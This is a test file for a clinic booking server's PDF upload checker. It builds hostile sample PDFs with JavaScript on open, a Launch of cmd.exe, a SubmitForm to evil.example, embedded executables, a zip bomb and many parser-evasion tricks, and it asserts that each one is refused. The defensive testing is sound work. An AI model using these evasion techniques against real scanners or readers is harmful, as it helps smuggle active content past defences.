import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from "@cantoo/pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildReferralForm } from "../../server/http/referral-form";
import { checkPdf, PDF_ACTIVE_CONTENT, PDF_UNREADABLE, scanRaw } from "../../server/uploads/pdf-check";
import { readPdf } from "../../server/uploads/pdf-reader";
import { createTestApp, type TestApp } from "../helpers/app";
import { RawPdf } from "../helpers/raw-pdf";
import { multipartBody, pdfBytes } from "../helpers/requests";

/**
 * Decision 008, uploads: a PDF that holds active content is refused with 415
 * and a message the booking page shows; our own fillable referral form, and
 * plain PDFs, still pass.
 */
const UPLOAD = "/api/cloudinary/upload/referrals_forms";

/** A one-page PDF made by pdf-lib, changed by `edit`. */
async function makePdf(edit: (doc: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]).drawText("Referral", { x: 20, y: 100, size: 12 });
  await edit(doc);
  return Buffer.from(await doc.save());
}

/** A PDF whose catalog (object 2) lives only inside a Flate-compressed object stream (object 1). */
function objectStreamPdf(catalog: string): Buffer {
  const header = "2 0 ";
  const packed = zlib.deflateSync(Buffer.from(header + catalog, "latin1"));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First ${header.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`,
      "latin1",
    ),
    packed,
    Buffer.from(
      "\nendstream\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 2 0 R/Size 4>>\n%%EOF\n",
      "latin1",
    ),
  ]);
}

const action = (doc: PDFDocument, entries: Record<string, unknown>) =>
  doc.context.obj(entries as never) as unknown as PDFDict;

/** Objects 2 and 3 of the hand-written files: the page tree and its one page. */
const PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
const PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>";
const catalog = (extra = "") => `<</Type/Catalog/Pages 2 0 R${extra}>>`;
const RUN_SCRIPT = "/OpenAction<</S/JavaScript/JS(app.alert(1))>>";

/**
 * A plain document (classic xref, %%EOF), then an update appended after it:
 * an object stream without /Type /ObjStm, reached only through the update's
 * xref stream, holding new versions of `members` (a reader uses them; a parse
 * in file order sees an ordinary stream).
 */
function appendedUpdate(members: [number, string][], extra: (pdf: RawPdf) => void = () => undefined): Buffer {
  const pdf = new RawPdf().object(1, catalog()).object(2, PAGES).object(3, PAGE).xrefTable("/Root 1 0 R");
  extra(pdf);
  return pdf.objectStream(10, members, { typed: false }).xrefStream(11, "/Root 1 0 R").bytes();
}

const HIDDEN: [string, [number, string][], ((pdf: RawPdf) => void)?][] = [
  ["JavaScript run on opening", [[1, catalog(RUN_SCRIPT)]]],
  ["JavaScript named with #xx escapes", [[1, catalog("/Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>")]]],
  ["a Launch action", [[1, catalog("/OpenAction<</S/Launch/F(cmd.exe)>>")]]],
  ["a SubmitForm action", [[1, catalog("/OpenAction<</S/SubmitForm/F(https://evil.example/)>>")]]],
  ["an ImportData action", [[1, catalog("/OpenAction<</S/ImportData/F(data.fdf)>>")]]],
  ["a GoToR action", [[1, catalog("/OpenAction<</S/GoToR/F(x.pdf)/D[0/Fit]>>")]]],
  [
    "a RichMedia annotation",
    [[3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]>>"]],
  ],
  [
    "an embedded file",
    [[1, catalog("/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>")]],
    (pdf) => pdf.stream(9, "", Buffer.from("MZ not really a program")),
  ],
];

/** Bytes that look like compressed image data: a fixed pseudo-random sequence (xorshift), the same on every run. */
function noise(size: number, seed = 2463534242): Buffer {
  const out = Buffer.alloc(size);
  let x = seed;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

/** The names the byte scan looks for, as compressed data holds them by chance (one in about 130 MB each). */
const NAMES_BY_CHANCE = ["/JS ", "/JavaScript ", "/EF ", "/EmbeddedFile(", "/Launch\n"].map((name) =>
  Buffer.from(name, "latin1"),
);

/** `data` with each of NAMES_BY_CHANCE written into it, spread out. */
function withNames(data: Buffer): Buffer {
  const out = Buffer.from(data);
  NAMES_BY_CHANCE.forEach((name, i) => name.copy(out, Math.floor(((i + 1) * out.length) / 7)));
  return out;
}

const IMAGE =
  "/Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode";
const IMAGE_PAGE =
  "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</XObject<</Im1 4 0 R/Im2 6 0 R>>>>/Contents 5 0 R>>";

/**
 * A one-page scanned referral: image 4 (/Length written out) and image 6
 * (/Length in object 7, as many scanners write it), drawn by content stream 5.
 */
function scannedPdf(image: Buffer, second = image): Buffer {
  return new RawPdf()
    .object(1, catalog())
    .object(2, PAGES)
    .object(3, IMAGE_PAGE)
    .stream(4, IMAGE, image)
    .stream(5, "", Buffer.from("q 200 0 0 200 0 0 cm /Im1 Do Q"))
    .stream(6, IMAGE, second, { length: "7 0 R" })
    .object(7, String(second.length))
    .xrefTable("/Root 1 0 R")
    .bytes();
}

/**
 * Files whose stream extent is unclear, with active content in what one
 * reader may take for data and another for the file's own objects: the
 * byte scan must read it. Image 4's data is `noise + payload + noise`;
 * the payload holds no object header (a reader could not find it by number)
 * unless the case is about one.
 */
const HIDDEN_DATA: [string, (pdf: RawPdf) => RawPdf][] = (() => {
  const [before, after] = [noise(700, 1), noise(300, 2)];
  const bare = Buffer.from(RUN_SCRIPT, "latin1");
  const data = (...parts: (Buffer | string)[]) =>
    Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p)));
  const hostileCatalog = `\n1 0 obj\n${catalog(RUN_SCRIPT)}\nendobj\n`;
  return [
    ["the stream has no /Length", (pdf) => pdf.stream(4, IMAGE, data(before, bare, after), { length: null })],
    [
      "the stream never ends (no endstream after it)",
      (pdf) => pdf.stream(4, IMAGE, data(before, bare, after), { end: "\nendobj\n" }),
    ],
    [
      "its /Length stops short of endstream",
      (pdf) => pdf.stream(4, IMAGE, data(before, bare, after), { length: String(before.length) }),
    ],
    [
      "its /Length ends inside the data, not where endstream begins",
      (pdf) => pdf.stream(4, IMAGE, data(before, bare, after), { length: String(before.length + bare.length + 10) }),
    ],
    [
      "its /Length reaches past an endstream",
      (pdf) => pdf.stream(4, IMAGE, data(before, "\nendstream\nendobj\n", bare, after)),
    ],
    [
      "its /Length reaches past an endstream and a later object header",
      (pdf) =>
        pdf.stream(4, IMAGE, data(before, "\nendstream\nendobj", hostileCatalog, "5 0 obj\n<<>>\nstream\n", after)),
    ],
    ["an object header is inside the data", (pdf) => pdf.stream(4, IMAGE, data(before, hostileCatalog, after))],
    [
      "an object header written with unusual spaces (vertical tabs) is inside the data",
      (pdf) => pdf.stream(4, IMAGE, data(before, `\n1\v0\vobj\n${catalog(RUN_SCRIPT)}\nendobj\n`, after)),
    ],
    [
      "the xref points inside the data, at an object whose header a scan does not find (a comment inside it)",
      (pdf) => {
        pdf.stream(4, IMAGE, data(before, `\n1 %x\n0 obj\n${catalog(RUN_SCRIPT)}\nendobj\n`, after));
        return pdf.pointAt(1, pdf.bytes().indexOf("1 %x\n0 obj"));
      },
    ],
    [
      "a trailer is inside the data",
      (pdf) => pdf.stream(4, IMAGE, data(before, `\ntrailer\n<</Size 8/Root${catalog(RUN_SCRIPT)}>>\n`, after)),
    ],
    [
      "it has two different /Length values (the first one right)",
      (pdf) => {
        const all = data(before, bare, after);
        return pdf.stream(4, IMAGE, all, { length: `${all.length}/Length 5` });
      },
    ],
    [
      "its /Length is in an object that does not exist",
      (pdf) => pdf.stream(4, IMAGE, data(before, bare, after), { length: "99 0 R" }),
    ],
    [
      "the stream has no object header",
      (pdf) =>
        pdf
          .write(`<<${IMAGE}/Length ${before.length + bare.length + after.length}>>\nstream\n`)
          .write(data(before, bare, after, "\nendstream\n")),
    ],
    [
      "no end of line follows the stream keyword",
      (pdf) =>
        pdf
          .write(`4 0 obj\n<<${IMAGE}/Length ${bare.length + after.length}>>\nstream`)
          .write(data(bare, after, "\nendstream\nendobj\n")),
    ],
  ];
})();

const ACTIVE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
  [
    "JavaScript run on opening (/OpenAction /S /JavaScript /JS)",
    (doc) =>
      doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") })),
  ],
  [
    "document-level JavaScript (/Names /JavaScript)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("Names"),
        action(doc, {
          JavaScript: action(doc, {
            Names: [PDFString.of("x"), action(doc, { S: "JavaScript", JS: PDFString.of("1") })],
          }),
        }),
      ),
  ],
  [
    "a Launch action",
    (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "Launch", F: PDFString.of("cmd.exe") })),
  ],
  [
    "an embedded file (/EmbeddedFiles, /EmbeddedFile)",
    async (doc) =>
      doc.attach(Buffer.from("MZ not really a program"), "tool.exe", { mimeType: "application/octet-stream" }),
  ],
  [
    "a page's additional action (/AA) running JavaScript",
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of("AA"),
          action(doc, { O: action(doc, { S: "JavaScript", JS: PDFHexString.fromText("1") }) }),
        ),
  ],
  [
    "a form that submits its data (/SubmitForm)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") }),
      ),
  ],
  [
    "an XFA form (/XFA)",
    (doc) => doc.catalog.set(PDFName.of("AcroForm"), action(doc, { Fields: [], XFA: PDFString.of("<xdp/>") })),
  ],
  [
    "a RichMedia annotation",
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of("Annots"),
          doc.context.obj([action(doc, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })]),
        ),
  ],
  [
    "a link that opens another file (/GoToR)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "GoToR", F: PDFString.of("\\\\host\\share\\x.pdf"), D: [0, "Fit"] }),
      ),
  ],
];

describe("PDFs with active content", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ RATE_LIMIT_ENABLED: "false", UPLOAD_DAILY_PER_ADDRESS: "1000" });
  });
  afterAll(() => t.close());

  const upload = (content: Buffer, name = "referral.pdf") => {
    const body = multipartBody(name, content, { contentType: "application/pdf" });
    return t.app.inject({ method: "POST", url: UPLOAD, payload: body.payload, headers: body.headers });
  };
  const files = () => fs.readdirSync(path.join(t.dataDir, "uploads"));
  const rows = async () => (await t.db.selectFrom("uploads").select("id").execute()).length;

  it.each(ACTIVE)("refuses %s with 415 and the booking page's message, keeping nothing", async (_label, edit) => {
    const pdf = await makePdf(edit);
    const [beforeFiles, beforeRows] = [files(), await rows()];
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ message: PDF_ACTIVE_CONTENT, errors: { file: PDF_ACTIVE_CONTENT } });
    expect(files()).toEqual(beforeFiles);
    expect(await rows()).toBe(beforeRows);
  });

  it("finds active content hidden in a compressed object stream, which a byte scan alone cannot see", async () => {
    const pdf = objectStreamPdf("<</Type/Catalog/Pages 3 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>");
    expect(scanRaw(pdf)).toBeNull();
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_ACTIVE_CONTENT);
    // The same document without the script passes: the refusal is for the script, not the object stream.
    expect((await upload(objectStreamPdf("<</Type/Catalog/Pages 3 0 R>>"))).statusCode).toBe(201);
  });

  /** Decision 024: the check must see what a reader sees, which follows the xref, not the file order. */
  const refusedAsActive = async (pdf: Buffer) => {
    const [beforeFiles, beforeRows] = [files(), await rows()];
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ message: PDF_ACTIVE_CONTENT, errors: { file: PDF_ACTIVE_CONTENT } });
    expect(files()).toEqual(beforeFiles);
    expect(await rows()).toBe(beforeRows);
  };

  it("refuses a catalog the xref points at (in an object stream) whose script a later object with the same number hides", async () => {
    const pdf = new RawPdf()
      .object(2, PAGES)
      .object(3, PAGE)
      .objectStream(4, [[1, catalog(RUN_SCRIPT)]])
      .object(1, catalog(), { register: false })
      .xrefStream(5, "/Root 1 0 R")
      .bytes();
    expect(scanRaw(pdf)).toBeNull();
    await refusedAsActive(pdf);
  });

  it("refuses an incremental update whose xref points the catalog back at a scripted version the first xref left unused", async () => {
    const pdf = new RawPdf()
      .object(2, PAGES)
      .object(3, PAGE)
      .objectStream(4, [[1, catalog(RUN_SCRIPT)]], { register: false })
      .object(1, catalog())
      .xrefStream(5, "/Root 1 0 R")
      .pack(1, 4, 0)
      .xrefStream(6, "/Root 1 0 R")
      .bytes();
    await refusedAsActive(pdf);
  });

  it.each(HIDDEN)(
    "refuses %s appended after the end of the file in an object stream that only the new xref stream names",
    async (_label, members, extra) => {
      const pdf = appendedUpdate(members, extra);
      expect(scanRaw(pdf)).toBeNull();
      await refusedAsActive(pdf);
    },
  );

  it("accepts a scanned referral whose image data holds /JS, /JavaScript, /EF, /EmbeddedFile and /Launch by chance", async () => {
    const pdf = scannedPdf(withNames(noise(20_000)), withNames(noise(20_000, 7)));
    // Those bytes are in the file: a scan of every byte takes them for names.
    expect(scanRaw(pdf)).not.toBeNull();
    expect((await upload(pdf, "scan.pdf")).statusCode).toBe(201);
  });

  it("checks a 10 MB scan with those bytes in its image data quickly, and accepts it", () => {
    const pdf = scannedPdf(withNames(noise(10 * 1024 * 1024 - 4096)), withNames(noise(1000, 3)));
    expect(pdf.length).toBeLessThanOrEqual(10 * 1024 * 1024);
    const started = performance.now();
    expect(checkPdf(pdf)).toEqual({ ok: true });
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it.each(HIDDEN_DATA)(
    "scans stream data, and refuses the active content in it, when %s (readers may cut the stream differently)",
    async (_label, image) => {
      const pdf = new RawPdf()
        .object(1, catalog())
        .object(2, PAGES)
        .object(3, IMAGE_PAGE)
        .stream(5, "", Buffer.from("q 200 0 0 200 0 0 cm /Im1 Do Q"))
        .stream(6, IMAGE, noise(500, 4));
      // Image 4 comes last, so that no later stream's endstream follows it.
      const bytes = image(pdf).xrefTable("/Root 1 0 R").bytes();
      // The byte scan itself, with the stream data it leaves out, finds the script.
      expect(scanRaw(bytes, readPdf(bytes).streamData)).not.toBeNull();
      await refusedAsActive(bytes);
    },
  );

  it("refuses active content after a stream keyword that follows no dictionary, a file the reader cannot read", () => {
    const pdf = new RawPdf()
      .object(1, catalog())
      .object(2, PAGES)
      .object(3, PAGE)
      .write(`4 0 obj\n[1 2]\nstream\n${RUN_SCRIPT}\nendstream\nendobj\n`)
      .xrefTable("/Root 1 0 R")
      .bytes();
    expect(() => readPdf(pdf)).toThrow("stream without a dictionary");
    expect(checkPdf(pdf)).toEqual({ ok: false, reason: "active", found: "JavaScript" });
  });

  it("refuses automatic actions that are not a plain GoTo: on opening, on a page, on a form field, names disguised", async () => {
    const disguised = new RawPdf()
      .object(1, catalog("/Open#41ction<</S/U#52I/URI(https://tracker.example/opened)>>"))
      .object(2, PAGES)
      .object(3, PAGE)
      .xrefTable("/Root 1 0 R")
      .bytes();
    await refusedAsActive(disguised);
    // Opening a web page by itself when the file opens tells the sender who read it, and when.
    await refusedAsActive(
      await makePdf((doc) =>
        doc.catalog.set(
          PDFName.of("OpenAction"),
          action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") }),
        ),
      ),
    );
    await refusedAsActive(
      await makePdf((doc) =>
        doc.getPage(0).node.set(PDFName.of("AA"), action(doc, { O: action(doc, { S: "Named", N: "Print" }) })),
      ),
    );
    await refusedAsActive(
      await makePdf((doc) => {
        const field = doc.getForm().createTextField("patient_surname");
        field.addToPage(doc.getPage(0), { x: 20, y: 20, width: 100, height: 20 });
        field.acroField
          .getWidgets()[0]!
          .dict.set(
            PDFName.of("AA"),
            action(doc, { Fo: action(doc, { S: "URI", URI: PDFString.of("https://tracker.example/focus") }) }),
          );
      }),
    );
  });

  it.each([
    ["javascript:", PDFString.of("javascript:app.alert(1)")],
    [
      "JavaScript: with spaces and a tab, as a hex string",
      PDFHexString.of(Buffer.from(" Java\tScript:app.alert(1)").toString("hex")),
    ],
    ["file:", PDFString.of("file:///C:/Windows/System32/calc.exe")],
  ])("refuses a link whose /URI is %s", async (_label, uri) => {
    const pdf = await makePdf((doc) =>
      doc.getPage(0).node.set(
        PDFName.of("Annots"),
        doc.context.obj([
          action(doc, {
            Type: "Annot",
            Subtype: "Link",
            Rect: [0, 0, 50, 20],
            A: action(doc, { S: "URI", URI: uri }),
          }),
        ]),
      ),
    );
    await refusedAsActive(pdf);
  });

  it("refuses an object stream that inflates past the cap, quickly", async () => {
    // 64 MB of spaces in about 64 KB: a "zip bomb" inside a PDF. Quickly, because the inflation stops
    // at the cap (zlib's maxOutputLength) and the refusal says so: nothing reads the 64 MB. A clock
    // here failed on a busy machine (2.8 s against 2 s) and proved less.
    const bomb = zlib.deflateSync(Buffer.concat([Buffer.from("1 0 "), Buffer.alloc(64 * 1024 * 1024, 0x20)]));
    const pdf = new RawPdf()
      .object(2, PAGES)
      .object(3, PAGE)
      .stream(4, "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb)
      .pack(1, 4, 0)
      .xrefStream(5, "/Root 1 0 R")
      .bytes();
    expect(checkPdf(pdf)).toEqual({ ok: false, reason: "unreadable", found: "too much inflated data" });
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_UNREADABLE);
  });

  it("refuses, quickly, a file of many uncompressed object streams that never end", () => {
    // Each one runs to the end of the file: read whole, 3,000 of them were minutes of work.
    const pdf = new RawPdf().object(1, catalog()).object(2, PAGES).object(3, PAGE);
    for (let n = 10; n < 3010; n++) pdf.stream(n, "/N 0/First 0", Buffer.from("0"), { end: "\n" });
    const bytes = pdf.write(" ".repeat(3_000_000)).xrefTable("/Root 1 0 R").bytes();
    const started = performance.now();
    expect(checkPdf(bytes)).toEqual({ ok: false, reason: "unreadable", found: "too much stream data" });
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it("refuses, quickly, object streams whose lengths all end in one long run of white space", () => {
    // Each /Length is checked by stepping over the white space after it to endstream: 2,000 were half a minute.
    const empty = zlib.deflateSync(Buffer.alloc(0));
    const [count, gap] = [2000, 5_000_000];
    const head = (num: number, length: number) =>
      `${num} 0 obj\n<</N 0/First 0/Filter/FlateDecode/Length ${String(length).padStart(10, "0")}>>\nstream\n`;
    const pdf = new RawPdf().object(1, catalog()).object(2, PAGES).object(3, PAGE);
    const starts: number[] = [];
    let at = pdf.bytes().length;
    for (let i = 0; i < count; i++) {
      at += head(10 + i, 0).length;
      starts.push(at);
      at += empty.length;
    }
    // Every /Length ends at its own place in the white space before the one endstream.
    starts.forEach((start, i) => pdf.write(head(10 + i, at + Math.floor((i * gap) / count) - start)).write(empty));
    const bytes = pdf.write(" ".repeat(gap)).write("\nendstream\nendobj\n").xrefTable("/Root 1 0 R").bytes();
    const started = performance.now();
    expect(checkPdf(bytes)).toEqual({ ok: false, reason: "unreadable", found: "too much space after stream lengths" });
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it("refuses active content whose name is disguised with #xx escapes, and a PDF that does not parse", async () => {
    const disguised = Buffer.from(
      "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    );
    expect((await upload(disguised)).json().message).toBe(PDF_ACTIVE_CONTENT);
    // Looks like a PDF to the type sniffer, but holds no document: it cannot be checked, so it is refused.
    const broken = Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(3000, 0x41)]);
    const res = await upload(broken);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_UNREADABLE);
  });

  it("refuses an encrypted PDF, whose insides cannot be checked", async () => {
    const pdf = await makePdf((doc) => doc.encrypt({ userPassword: "secret", ownerPassword: "owner" }));
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_UNREADABLE);
  });

  it("accepts our own fillable referral form (as the server makes and serves it) and plain PDFs", async () => {
    const ours = Buffer.from(await buildReferralForm(t.config));
    expect((await upload(ours, "referral-form.pdf")).statusCode).toBe(201);
    // A filled-in copy, as a referring doctor sends it back.
    const filled = await PDFDocument.load(ours);
    filled.getForm().getTextField("patient_surname").setText("Molefhe");
    expect((await upload(Buffer.from(await filled.save()), "filled.pdf")).statusCode).toBe(201);
    expect((await upload(await makePdf(() => undefined))).statusCode).toBe(201);
    expect((await upload(pdfBytes(5000))).statusCode).toBe(201);
    // A link to a web page or an e-mail address (/URI), followed when clicked, is not active content.
    const link = (uri: string) =>
      makePdf((doc) =>
        doc.getPage(0).node.set(
          PDFName.of("Annots"),
          doc.context.obj([
            action(doc, {
              Type: "Annot",
              Subtype: "Link",
              Rect: [0, 0, 50, 20],
              A: action(doc, { S: "URI", URI: PDFString.of(uri) }),
            }),
          ]),
        ),
      );
    expect((await upload(await link("https://clinic.example.org/"))).statusCode).toBe(201);
    expect((await upload(await link("mailto:referrals@clinic.example.org"))).statusCode).toBe(201);
  });

  it("accepts an opening action that only goes to a page: a GoTo action or a destination array", async () => {
    const goTo = await makePdf((doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "GoTo", D: doc.context.obj([doc.getPage(0).ref, "Fit"]) }),
      ),
    );
    expect((await upload(goTo)).statusCode).toBe(201);
    const destination = await makePdf((doc) =>
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, "XYZ", null, null, 0])),
    );
    expect((await upload(destination)).statusCode).toBe(201);
  });

  it("accepts our form filled in and saved as an incremental update (as Acrobat saves it), objects renumbered in streams", async () => {
    const ours = await buildReferralForm(t.config);
    const doc = await PDFDocument.load(ours, { forIncrementalUpdate: true });
    doc.getForm().getTextField("patient_surname").setText("Molefhe");
    const once = Buffer.from(await doc.commit());
    // Two sections, two %%EOF markers, object numbers defined twice: all legitimate.
    expect(once.toString("latin1").match(/%%EOF/g)?.length).toBeGreaterThanOrEqual(2);
    expect((await upload(once, "filled.pdf")).statusCode).toBe(201);
    doc.getForm().getTextField("doctor_name").setText("Dr Sebego");
    expect((await upload(Buffer.from(await doc.commit()), "filled-twice.pdf")).statusCode).toBe(201);
    // Without object streams too (a classic xref table in each section).
    const classic = await PDFDocument.load(ours, { forIncrementalUpdate: true });
    classic.getForm().getTextField("patient_surname").setText("Molefhe");
    expect(
      (await upload(Buffer.from(await classic.commit({ useObjectStreams: false })), "classic.pdf")).statusCode,
    ).toBe(201);
  });
});
